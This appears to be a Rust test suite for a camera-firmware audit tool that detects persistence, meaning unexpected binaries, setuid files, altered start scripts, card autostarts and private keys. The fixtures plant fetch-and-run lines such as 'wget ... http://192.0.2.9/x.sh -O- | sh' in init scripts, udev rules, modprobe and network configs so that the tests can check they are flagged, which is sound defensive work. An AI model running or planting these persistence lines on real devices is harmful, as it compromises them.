//! Where programs lie that run, and what starts them.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use super::running::Camera;
use super::*;

/// Layers as OpenWrt has them, memory where it ought not to be, and a card.
const LAYERS: &str = "/dev/root /rom squashfs ro 0 0\n/dev/mtdblock4 /overlay jffs2 rw 0 0\n\
    overlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n\
    tmpfs /tmp tmpfs rw 0 0\ntmpfs /var tmpfs rw 0 0\ntmpfs /mnt tmpfs rw 0 0\n\
    /dev/mmcblk0p1 /tmp/sd vfat rw 0 0\n";

pub(super) fn layered() -> Camera {
    let camera = Camera::new("openmiko");
    camera.write("proc/mounts", LAYERS);
    fs::create_dir_all(camera.path("overlay/upper/etc")).unwrap();
    for layer in ["", "rom/"] {
        camera.write(&format!("{layer}bin/busybox"), "\x7fELF BusyBox v1.36.1");
        camera.write(&format!("{layer}etc/inittab"), "");
    }
    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
    camera
}

/// A program that runs from a file of the writable layer.
fn above(camera: &Camera, pid: u32, path: &str, contents: &str) {
    for layer in ["", "overlay/upper/"] {
        camera.write(&format!("{layer}{path}"), contents);
    }
    let name = path.rsplit('/').next().unwrap();
    camera.process(pid, &format!("/{path}"), name.as_bytes(), name.as_bytes(), &[]);
}

#[test]
fn programs_that_the_firmware_did_not_bring_are_told() {
    if without_root() {
        return;
    }
    let plain = layered().report();
    assert_eq!(
        verdict(&plain, "trace.deleted"),
        "pass",
        "{}",
        rule(&plain, "trace.deleted")
    );
    // Memory, wherever it is mounted.
    for path in ["/var/x", "/mnt/.x"] {
        let camera = layered();
        camera.write(path.trim_start_matches('/'), "\x7fELF");
        camera.process(60, path, b"x", b"x", &[]);
        let report = camera.report();
        for id in ["trace.deleted", "trace.file"] {
            assert_eq!(verdict(&report, id), "fail", "{path}: {}", rule(&report, id));
            assert!(evidence(&report, id).contains(path), "{}", rule(&report, id));
        }
    }
    // The writable layer: what is new, and what lies above a file of the firmware.
    for path in [
        "root/x",
        "etc/.x",
        "home/x",
        "usr/sbin/x",
        "x",
        "bin/busybox",
        "usr/bin/xjqwkrtplmnz",
    ] {
        let camera = layered();
        above(&camera, 60, path, "\x7fELF evil");
        let report = camera.report();
        assert_eq!(
            verdict(&report, "trace.deleted"),
            "fail",
            "{path}: {}",
            rule(&report, "trace.deleted")
        );
        assert!(evidence(&report, "trace.deleted").contains(&format!("/{path} runs as")));
        let named = if path.contains("xjq") { "fail" } else { "pass" };
        assert_eq!(
            verdict(&report, "trace.name"),
            named,
            "{}",
            rule(&report, "trace.name")
        );
        // The owner says that it belongs there; another content does not.
        camera.audit(&["--accept"]);
        assert_eq!(verdict(&camera.report(), "trace.deleted"), "pass", "{path}");
        camera.write(path, "\x7fELF more");
        camera.write(&format!("overlay/upper/{path}"), "\x7fELF more");
        assert_eq!(verdict(&camera.report(), "trace.deleted"), "fail", "{path}");
    }
}

#[test]
fn what_packages_brought_or_only_moved_is_no_trace() {
    if without_root() {
        return;
    }
    let camera = layered();
    // The same content, in the upper layer because its mode was changed.
    above(&camera, 60, "bin/busybox", "\x7fELF BusyBox v1.36.1");
    assert_eq!(verdict(&camera.report(), "trace.deleted"), "pass");
    above(&camera, 61, "usr/bin/tool", "\x7fELF");
    above(&camera, 62, "usr/bin/other", "\x7fELF");
    let lists = "usr/lib/opkg/info";
    for layer in ["", "overlay/upper/"] {
        camera.write(&format!("{layer}{lists}/tool.list"), "/usr/bin/tool\n");
        camera.write(
            &format!("{layer}lib/apk/db/installed"),
            "P:other\nF:usr/bin\nR:other\n",
        );
    }
    let report = camera.report();
    let told = evidence(&report, "trace.deleted");
    assert_eq!(verdict(&report, "trace.deleted"), "pass", "{told}");
    assert!(told.contains("of installed packages: 2"), "{told}");
    // A list of the firmware's names the firmware's files, and no other in their place.
    camera.write(&format!("{lists}/busybox.list"), "/bin/busybox\n");
    camera.write("overlay/upper/bin/busybox", "\x7fELF evil");
    assert_eq!(verdict(&camera.report(), "trace.deleted"), "fail");
}

#[test]
fn rights_that_came_after_the_firmware_are_told() {
    if without_root() {
        return;
    }
    let camera = layered();
    let put = |path: &str, mode: u32| {
        camera.write(path, "\x7fELF");
        fs::set_permissions(camera.path(path), fs::Permissions::from_mode(mode)).unwrap();
    };
    for layer in ["", "rom/"] {
        put(&format!("{layer}bin/su"), 0o4755);
    }
    // A package's, and one without the bit.
    for layer in ["", "overlay/upper/"] {
        put(&format!("{layer}usr/bin/sudo"), 0o4755);
        put(&format!("{layer}usr/bin/plain"), 0o755);
        camera.write(&format!("{layer}usr/lib/opkg/info/sudo.list"), "/usr/bin/sudo\n");
    }
    let report = camera.report();
    assert_eq!(
        verdict(&report, "trace.file"),
        "pass",
        "{}",
        rule(&report, "trace.file")
    );
    // The firmware's own, wherever it keeps it; what has rights that give nobody more; and what was copied up as it was.
    for layer in ["", "rom/"] {
        put(&format!("{layer}etc/helper"), 0o4755);
        put(&format!("{layer}usr/bin/up"), 0o4755);
    }
    for layer in ["", "overlay/upper/"] {
        put(&format!("{layer}usr/bin/up"), 0o4755);
        for (name, uid, gid) in [("a", 1000, 0), ("b", 0, 1000)] {
            let path = format!("{layer}usr/bin/{name}");
            put(&path, 0o755);
            std::os::unix::fs::chown(camera.path(&path), Some(uid), Some(gid)).unwrap();
            let mode = if gid == 0 { 0o4755 } else { 0o2755 };
            fs::set_permissions(camera.path(&path), fs::Permissions::from_mode(mode)).unwrap();
        }
    }
    let report = camera.report();
    assert_eq!(
        verdict(&report, "trace.file"),
        "pass",
        "{}",
        rule(&report, "trace.file")
    );
    for path in ["usr/bin/.su", "root/.x", "bin/busybox", "bin/su"] {
        for layer in ["", "overlay/upper/"] {
            put(&format!("{layer}{path}"), 0o4755);
            if path == "bin/su" {
                camera.write(&format!("{layer}{path}"), "\x7fELF evil");
            }
        }
        let report = camera.report();
        assert_eq!(verdict(&report, "trace.file"), "fail", "{path}");
        let told = evidence(&report, "trace.file");
        assert!(
            told.contains(path) && told.contains("root's rights") && !told.contains("sudo"),
            "{told}"
        );
        assert_eq!(path == "bin/su", told.contains("/bin/su"), "{told}");
    }
    // Whoever may log in by a key is named.
    camera.write(
        "root/.ssh/authorized_keys",
        "# mine\nssh-ed25519 AAAA me\nssh-ed25519 AAAB you\n",
    );
    camera.process(60, "/usr/sbin/dropbear", b"dropbear", b"dropbear", &[]);
    let report = camera.report();
    let told = evidence(&report, "account.ssh");
    assert!(
        told.contains("/root/.ssh/authorized_keys") && told.contains("keys that log in: 2"),
        "{told}"
    );
}

#[test]
fn start_scripts_that_were_changed_are_told_and_not_what_hardening_changed() {
    if without_root() {
        return;
    }
    const SCRIPT: &str = "#!/bin/sh\n/usr/bin/app &\n/usr/sbin/telnetd &\n";
    const CLOSED: &str = "#!/bin/sh\n/usr/bin/app &\n: /usr/sbin/telnetd &\n";
    let put = |camera: &Camera, path: &str, text: &str| {
        for layer in ["", "overlay/upper/"] {
            camera.write(&format!("{layer}{path}"), text);
        }
    };
    let camera = layered();
    for layer in ["", "rom/"] {
        camera.write(&format!("{layer}etc/init.d/S50app"), SCRIPT);
        camera.write(&format!("{layer}etc/crontabs/root"), "1 * * * * /usr/bin/app\n");
    }
    let judged = || {
        let report = camera.report();
        (
            verdict(&report, "start.added").to_owned(),
            evidence(&report, "start.added"),
        )
    };
    assert_eq!(judged().0, "pass", "{}", judged().1);
    // The same in the upper layer, and with what others wrote.
    put(&camera, "etc/init.d/S50app", SCRIPT);
    assert_eq!(judged().0, "pass", "{}", judged().1);
    put(&camera, "etc/init.d/S50app", &format!("{SCRIPT}iptables -F\n"));
    assert_eq!(judged().0, "unknown");
    assert!(judged().1.contains("/etc/init.d/S50app"), "{}", judged().1);
    // As the hardener left it.
    put(&camera, "etc/init.d/S50app", CLOSED);
    assert_eq!(judged().0, "unknown");
    let journal = lenscap_harden::journal::Journal {
        entries: vec![lenscap_harden::journal::Entry {
            path: "/etc/init.d/S50app".into(),
            original: Some(lenscap_harden::journal::Saved {
                name: lenscap_harden::journal::sha256(SCRIPT.as_bytes()),
                attributes: lenscap_harden::root::Attributes {
                    mode: 0o755,
                    uid: 0,
                    gid: 0,
                },
            }),
            written: lenscap_harden::journal::sha256(CLOSED.as_bytes()),
            insecure: false,
            below: true,
            why: "x".into(),
        }],
        left: vec![],
    };
    camera.write("etc/lenscap/harden/journal", journal.to_text());
    assert_eq!(judged().0, "pass", "{}", judged().1);
    put(&camera, "etc/init.d/S50app", &format!("{CLOSED}iptables -F\n"));
    assert_eq!(judged().0, "unknown");
    put(&camera, "etc/init.d/S50app", CLOSED);
    // Settings that only set something start nothing.
    for (text, verdict) in [
        ("ARGS=-s\n", "pass"),
        ("ARGS=-s\n/usr/bin/other &\n", "unknown"),
        ("ARGS='-p 1'\n", "pass"),
    ] {
        for layer in ["", "rom/"] {
            camera.write(&format!("{layer}etc/default/app"), "ARGS=\n");
        }
        put(&camera, "etc/default/app", text);
        assert_eq!(judged().0, verdict, "{text}: {}", judged().1);
    }
    // Of a table, the line that is new.
    put(
        &camera,
        "etc/crontabs/root",
        "1 * * * * /usr/bin/app\n2 * * * * /usr/bin/other\n",
    );
    assert_eq!(judged().0, "unknown");
    let told = judged().1;
    assert_eq!(told.matches("crontabs").count(), 1, "{told}");
    camera.audit(&["--accept"]);
    assert_eq!(judged().0, "pass", "{}", judged().1);
}

#[test]
fn scripts_that_run_are_told_like_programs() {
    if without_root() {
        return;
    }
    for (path, words, expected) in [
        ("tmp/.x.sh", "/bin/sh\0/tmp/.x.sh", "fail"),
        ("var/.x.sh", "sh\0-e\0/var/.x.sh\0a", "fail"),
        ("root/x", "sh\0-c\0/root/x", "pass"),
        ("root/x", "busybox\0ash\0x", "fail"),
        ("etc/init.d/rcS", "sh\0/etc/init.d/rcS", "pass"),
        ("root/gone", "sh\0/root/gone.sh", "unknown"),
        ("tmp/gone", "sh\0/tmp/gone.sh", "fail"),
    ] {
        let camera = layered();
        camera.write(path, "sleep 1\n");
        let layer = if path.starts_with("etc") {
            "rom"
        } else {
            "overlay/upper"
        };
        camera.write(&format!("{layer}/{path}"), "sleep 1\n");
        camera.process(60, "/bin/busybox", b"x", words.as_bytes(), &[]);
        symlink("/root", camera.path("proc/60/cwd")).unwrap();
        let report = camera.report();
        assert_eq!(
            verdict(&report, "trace.deleted"),
            expected,
            "{words}: {}",
            rule(&report, "trace.deleted")
        );
    }
}

/// Firmwares that live on a card run their programs from it.
#[test]
fn what_runs_from_a_card_is_told_and_no_trace() {
    if without_root() {
        return;
    }
    let camera = layered();
    camera.write("tmp/sd/yi-hack/bin/rRTSPServer", "\x7fELF");
    camera.process(
        60,
        "/tmp/sd/yi-hack/bin/rRTSPServer",
        b"rRTSPServer",
        b"rRTSPServer",
        &[],
    );
    let report = camera.report();
    let told = evidence(&report, "trace.deleted");
    assert_eq!(verdict(&report, "trace.deleted"), "unknown", "{told}");
    assert!(
        told.contains("/dev/mmcblk0p1") && told.contains("openmiko"),
        "{told}"
    );
    assert_eq!(
        verdict(&report, "trace.file"),
        "pass",
        "{}",
        rule(&report, "trace.file")
    );
    // Memory that is called like it is none.
    let memory = LAYERS.replace("/tmp/sd vfat", "/tmp/sd tmpfs");
    camera.write("proc/mounts", memory);
    assert_eq!(verdict(&camera.report(), "trace.deleted"), "fail");
}

#[test]
fn a_root_that_can_be_written_as_a_whole_tells_nothing_until_it_is_accepted() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
    camera.write("bin/busybox", "\x7fELF");
    // Whoever mounts it anew writes to it, and mounts it back.
    for root in ["/dev/mtdblock3 / jffs2 rw 0 0\n", "/dev/root / ext4 ro 0 0\n"] {
        camera.write("proc/mounts", root);
        let report = camera.report();
        assert_eq!(verdict(&report, "trace.deleted"), "unknown", "{root}");
        assert!(evidence(&report, "trace.deleted").contains("can be written as a whole"));
    }
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "trace.deleted"), "pass");
    for root in ["tmpfs / tmpfs rw 0 0\n", "rootfs / rootfs rw 0 0\n"] {
        camera.write("proc/mounts", root);
        let report = camera.report();
        assert_eq!(verdict(&report, "trace.deleted"), "unknown");
        assert!(evidence(&report, "trace.deleted").contains("whole root is in memory"));
    }
}

#[test]
fn what_start_scripts_run_is_read_like_them() {
    if without_root() {
        return;
    }
    const FETCH: &str = "wget -q http://192.0.2.9/x.sh -O- | sh\n";
    let camera = layered();
    camera.audit(&["--accept"]);
    let plain = camera.report();
    for id in ["start.download", "start.drift"] {
        assert_eq!(verdict(&plain, id), "pass", "{}", rule(&plain, id));
    }
    let script = format!("#!/bin/sh\n{FETCH}");
    for (starter, line, path, text) in [
        (
            "etc/inittab",
            "::sysinit:/usr/bin/general_init.sh\n",
            "usr/bin/general_init.sh",
            script.as_str(),
        ),
        (
            "etc/init.d/S36wireless",
            "#!/bin/sh\nwlan-start &\n",
            "usr/sbin/wlan-start",
            &script,
        ),
        (
            "etc/init.d/S36wireless",
            "#!/bin/sh\nup() {\n/usr/sbin/wlan-start\n}\nup\n",
            "usr/sbin/wlan-start",
            &script,
        ),
        (
            "etc/init.d/S36x",
            "#!/bin/sh\nudhcpc -i eth0 -s /usr/lib/dhcp\n",
            "usr/lib/dhcp",
            &script,
        ),
        (
            "etc/init.d/S36x",
            "#!/bin/sh\n. /usr/lib/one\n",
            "usr/lib/two",
            &script,
        ),
        ("", "", "lib/preinit/99_x", FETCH),
        ("", "", "lib/netifd/proto/x.sh", &script),
        ("", "", "usr/share/udhcpc/default.script", &script),
        ("", "", "lib/mdev/x", FETCH),
        (
            "",
            "",
            "etc/udev/rules.d/9-x.rules",
            "RUN+=\"/bin/sh -c 'wget -qO- http://192.0.2.9/x | sh'\"\n",
        ),
        (
            "",
            "",
            "etc/modprobe.d/x.conf",
            "install usb wget -q http://192.0.2.9/x -O- | sh\n",
        ),
        (
            "",
            "",
            "etc/network/interfaces",
            "iface eth0 inet dhcp\n\tpost-up wget -q http://192.0.2.9/x -O- | sh\n",
        ),
    ] {
        let camera = layered();
        camera.write("usr/lib/one", "/usr/lib/two\n");
        camera.audit(&["--accept"]);
        if !starter.is_empty() {
            camera.write(starter, line);
        }
        for layer in ["", "overlay/upper/"] {
            camera.write(&format!("{layer}{path}"), text);
        }
        let report = camera.report();
        for id in ["start.download", "start.drift", "start.added"] {
            assert_eq!(verdict(&report, id), "fail", "{path}: {}", rule(&report, id));
            assert!(
                evidence(&report, id).contains(&format!("/{path}")),
                "{path}: {}",
                rule(&report, id)
            );
        }
    }
    // Nobody starts it.
    camera.write("usr/bin/other.sh", script.as_str());
    assert_eq!(verdict(&camera.report(), "start.download"), "pass");
}

#[test]
fn what_mdev_runs_of_a_card_is_told() {
    if without_root() {
        return;
    }
    let camera = layered();
    assert_eq!(verdict(&camera.report(), "start.card"), "pass");
    camera.write("lib/mdev/automount.sh", "#!/bin/sh\nD=/mnt\nup() {\nmount -t auto \"/dev/$1\" \"${D}/$1\"\nsh ${D}/$1/autostart.sh\n}\nup ${MDEV}\n");
    let report = camera.report();
    assert_eq!(
        verdict(&report, "start.card"),
        "fail",
        "{}",
        rule(&report, "start.card")
    );
    assert!(evidence(&report, "start.card").contains("/lib/mdev/automount.sh:5"));
    // Where it is known what is mounted, by the table of mounts.
    let camera = layered();
    camera.write("proc/mounts", LAYERS.replace("/tmp/sd", "/data"));
    camera.write("etc/init.d/S99x", "#!/bin/sh\n. /data/boot.sh\n");
    assert_eq!(verdict(&camera.report(), "start.card"), "fail");
}

#[test]
fn keys_of_every_form_are_found() {
    if without_root() {
        return;
    }
    const PEM: &str = "-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\n";
    let none = layered().report();
    assert_eq!(
        verdict(&none, "account.key"),
        "notapplicable",
        "{}",
        rule(&none, "account.key")
    );
    for (path, key) in [
        ("etc/uhttpd.key", &[0x30u8, 6, 2, 1, 0, 2, 1, 5][..]),
        ("root/.ssh/id_rsa", PEM.as_bytes()),
        ("etc/server.crt", PEM.as_bytes()),
        ("etc/privkey", PEM.as_bytes()),
        ("etc/ssl/certs/server.pem", PEM.as_bytes()),
    ] {
        let camera = layered();
        camera.write(path, key);
        let report = camera.report();
        assert_eq!(
            verdict(&report, "account.key"),
            "fail",
            "{path}: {}",
            rule(&report, "account.key")
        );
        assert!(evidence(&report, "account.key").contains(path));
    }
}

#[test]
fn whoever_waits_on_sshs_port_may_be_ssh() {
    if without_root() {
        return;
    }
    let camera = layered();
    assert_eq!(verdict(&camera.report(), "account.ssh"), "notapplicable");
    camera.listen(22, 77);
    camera.process(60, "/bin/busybox", b"helper", b"helper", &[77]);
    let report = camera.report();
    assert_eq!(
        verdict(&report, "account.ssh"),
        "unknown",
        "{}",
        rule(&report, "account.ssh")
    );
    fs::remove_dir_all(camera.path("proc/60")).unwrap();
    camera.process(60, "/bin/busybox", b"helper", b"/usr/sbin/dropbear\0-sg", &[77]);
    let report = camera.report();
    assert_eq!(
        verdict(&report, "account.ssh"),
        "pass",
        "{}",
        rule(&report, "account.ssh")
    );
}

#[test]
fn programs_that_everybody_may_change_are_told() {
    if without_root() {
        return;
    }
    let camera = layered();
    camera.write("usr/bin/streamer", "\x7fELF");
    camera.write("etc/init.d/S95streamer", "#!/bin/sh\n/usr/bin/streamer &\n");
    let set = |mode| {
        fs::set_permissions(camera.path("usr/bin/streamer"), fs::Permissions::from_mode(mode)).unwrap()
    };
    set(0o755);
    let told = |report: &Value| evidence(report, "start.writable").contains("/usr/bin/streamer");
    assert!(!told(&camera.report()));
    set(0o777);
    assert!(told(&camera.report()));
    set(0o755);
    // Whoever may write its folder puts another in its place; not where each file is its owner's.
    for (mode, tells) in [(0o777, true), (0o1777, false), (0o755, false)] {
        fs::set_permissions(camera.path("usr/bin"), fs::Permissions::from_mode(mode)).unwrap();
        let report = camera.report();
        assert_eq!(
            evidence(&report, "start.writable").contains("/usr/bin"),
            tells,
            "{mode:o}"
        );
    }
}

#[test]
fn accepting_makes_the_folder_that_it_keeps_the_baseline_in() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let _ = fs::remove_dir_all(camera.path("etc/lenscap"));
    let output = camera.audit(&["--accept"]);
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    let folder = fs::metadata(camera.path("etc/lenscap")).unwrap();
    assert_eq!(folder.permissions().mode() & 0o777, 0o700);
    assert!(camera.path("etc/lenscap/audit.baseline").exists());
}

/// Overlays on two file systems number their folders anew when the kernel needs memory, or somebody mounts them anew.
#[test]
fn what_hardening_keeps_starts_nothing_however_its_folder_is_numbered() {
    if without_root() {
        return;
    }
    const SAVED: &str = "be76831382cded7e4ef0bb94aa9645c0717e284b92b993f9829fc0e416a4222a";
    let folder = tempfile::tempdir().unwrap();
    let put = |path: &str, text: &str| {
        let path = folder.path().join("lower").join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    put("etc/passwd", "root:*:0:0::/root:/bin/sh\n");
    put("etc/init.d/S40x", "#!/bin/sh\n: telnetd\n");
    for n in 0..10_000 {
        put(&format!("a/{}/{n}", n % 20), "x\n");
    }
    let root = folder.path().to_str().unwrap();
    let report = |runs: &str| {
        super::hiding::among_own_processes(&format!(
            "cd {root} && mkdir -p upper m && mount -t tmpfs none upper && mkdir upper/u upper/w && \
             mount -t overlay -o lowerdir=lower,upperdir=upper/u,workdir=upper/w none m && \
             mkdir -p m/etc/lenscap/harden/saved && printf '#!/bin/sh\\ntelnetd\\n' >m/etc/lenscap/harden/saved/{SAVED} && \
             echo '{runs}' >>m/etc/init.d/S40x && {{ while mount -o remount none m; do :; done & }} && \
             {LENSCAP} audit --json --root m"
        ))
    };
    let plain = report(":");
    assert_eq!(
        verdict(&plain, "start.telnet"),
        "pass",
        "{}",
        rule(&plain, "start.telnet")
    );
    // Unless something that starts runs it.
    let run = report(&format!(". /etc/lenscap/harden/saved/{SAVED}"));
    assert!(
        evidence(&run, "start.telnet").contains(SAVED),
        "{}",
        rule(&run, "start.telnet")
    );
}
